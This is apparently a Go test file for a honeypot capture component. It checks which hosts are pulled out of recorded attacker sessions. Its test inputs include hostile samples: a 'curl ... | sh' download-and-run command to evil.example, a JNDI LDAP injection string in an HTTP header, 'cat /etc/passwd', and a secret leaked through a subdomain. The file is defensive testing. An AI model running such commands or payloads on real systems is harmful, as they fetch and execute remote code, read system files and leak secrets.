package capture_test

import (
	"slices"
	"strings"
	"testing"

	"go.cordon.dev/cordon/internal/clock"
	"go.cordon.dev/cordon/internal/deception/capture"
	"go.cordon.dev/cordon/internal/deception/service"
	"go.cordon.dev/cordon/internal/event"
)

// Where a client wants to go is told by name, whatever it says it with; the decky
// itself, and a name that holds a secret, are not.
func TestHostsThatAClientNames(t *testing.T) {
	secret := strings.Repeat("s3cr3t", 2)
	many := strings.Builder{}
	for i := range 40 {
		many.WriteString("http://h" + strings.Repeat("x", i) + ".example/ ")
	}
	for _, c := range []struct {
		name string
		what service.Type
		raw  string
		with []service.Field
		want []string
	}{
		{"wget", service.Fetch, "", []service.Field{field("url", "http://EVIL.example:8080/x.sh")}, []string{"evil.example"}},
		{"a primary of redis", service.Fetch, "", []service.Field{field("url", "redis://198.51.100.7:6379")}, []string{"198.51.100.7"}},
		{"what is no URL", service.Fetch, "", []service.Field{field("url", "http://[::1")}, nil},
		{"ssh -L", service.Forward, "", []service.Field{field("host", "10.0.0.5"), field("port", "22")}, []string{"10.0.0.5"}},
		{"to the decky itself", service.Forward, "", []service.Field{field("host", "192.0.2.7")}, nil},
		{"a shell", service.Command, "curl -s https://u:p@evil.example./a|sh; wget 'ftp://[2001:db8::7]/b'", nil, []string{"evil.example", "2001:db8::7"}},
		{"nothing", service.Command, "cat /etc/passwd", nil, nil},
		{"no machine", service.Command, "http://localhost/ http://x/ http://127.0.0.1/ http://.../", nil, nil},
		{"jndi in a header", service.Request, "GET /?u=http://one.example/ HTTP/1.1\r\nReferer: http://page.example/\r\nUser-Agent: ${jndi:ldap://two.example:1389/a}\r\n\r\n", nil, []string{"one.example", "two.example"}},
		{"a name that holds a secret", service.Command, "curl http://" + secret + ".evil.example/", nil, nil},
		{"a file", service.Upload, "http://evil.example/", nil, nil},
	} {
		r := newRoom(t, func(d *capture.Deps) {
			d.Redact = func(s string) string { return strings.ReplaceAll(s, secret, "[redacted]") }
		})
		s := service.NewSession(r, clock.Real{}, "web-1", "ssh", client(1), local())
		s.Record(c.what, []byte(c.raw), c.with...)
		s.Record(service.Command, []byte(many.String()))
		s.End("left")
		r.done(t)
		var got [][]string
		for _, e := range r.events(t) {
			var p event.DeckyTraffic
			if event.Match("decky.*.traffic", e.Topic) {
				must(t, e.Decode(&p))
				got = append(got, p.Hosts)
			}
		}
		if len(got) != 2 || !slices.Equal(got[0], c.want) || len(got[1]) != 8 {
			t.Errorf("%s: %q, want %q, and eight of many", c.name, got, c.want)
		}
	}
}
